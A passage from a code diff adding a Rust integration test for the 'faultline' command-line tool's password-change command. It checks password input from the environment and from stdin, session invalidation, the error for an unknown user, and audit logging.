+        String::from_utf8_lossy(&out.stderr)
+    );
+    let store = faultline::store::connect(&faultline::store::sqlite_url(dir.path()))
+        .await
+        .unwrap();
+    let (sam, _) = store.user_by_name("sam").await.unwrap().unwrap();
+    store
+        .create_session(faultline::store::NewSession {
+            id_hash: "sam-session",
+            user_id: sam.id,
+            csrf_token: "c",
+            replaces: None,
+        })
+        .await
+        .unwrap();
+
+    let out = faultline(&["user", "passwd", "sam"])
+        .env("FAULTLINE_PASSWORD", "from-the-environment")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let (_, hash) = store.user_by_name("sam").await.unwrap().unwrap();
+    assert!(faultline::accounts::verify_password("from-the-environment".into(), Some(hash)).await);
+    assert!(
+        store.session("sam-session").await.unwrap().is_none(),
+        "session ended"
+    );
+
+    let mut child = faultline(&["user", "passwd", "sam"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(b"typed-on-standard-input\n")
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let (_, hash) = store.user_by_name("sam").await.unwrap().unwrap();
+    assert!(
+        faultline::accounts::verify_password("typed-on-standard-input".into(), Some(hash)).await
+    );
+
+    let out = faultline(&["user", "passwd", "nobody"])
+        .env("FAULTLINE_PASSWORD", "whatever-it-is-here")
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("no user \"nobody\""));
+    let audit = store.recent_audit(10).await.unwrap();
+    assert!(
+        audit.iter().any(|a| a.actor == "cli"
+            && a.target == "sam"
+            && a.detail.contains("password changed")),
+        "{audit:?}"
+    );
+    store.close().await;
+}
